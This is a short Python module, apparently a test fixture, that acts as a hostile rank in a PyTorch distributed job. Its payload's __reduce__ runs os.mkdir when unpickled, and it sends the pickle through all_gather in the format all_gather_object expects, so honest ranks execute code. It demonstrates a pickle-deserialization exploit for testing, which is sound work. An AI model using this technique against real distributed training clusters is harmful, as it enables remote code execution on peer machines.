"""A rank that sends pickles that run code, where other ranks expect what `gather_object` of PyTorch sends."""

from __future__ import annotations

import os
import pickle
import sys
from typing import Any

import torch
import torch.distributed as dist

from solera.engine.ranks import Ranks


class Payload:
    """Unpickling it makes a folder."""

    def __init__(self, folder: str) -> None:
        self.folder = folder

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (self.folder,)


def attack(folder: str) -> None:
    """Join, send the payload as `all_gather_object` does, and stay until the honest rank has ended."""
    ranks = Ranks.joined()
    assert ranks
    payload = torch.frombuffer(bytearray(pickle.dumps(Payload(folder))), dtype=torch.uint8)
    lengths = [torch.zeros(1, dtype=torch.int64) for _ in range(ranks.size)]
    dist.all_gather(lengths, torch.tensor([len(payload)]))
    longest = int(max(lengths))
    padded = torch.nn.functional.pad(payload, (0, longest - len(payload)))
    dist.all_gather([torch.zeros(longest, dtype=torch.uint8) for _ in lengths], padded)
    sys.stdin.read()
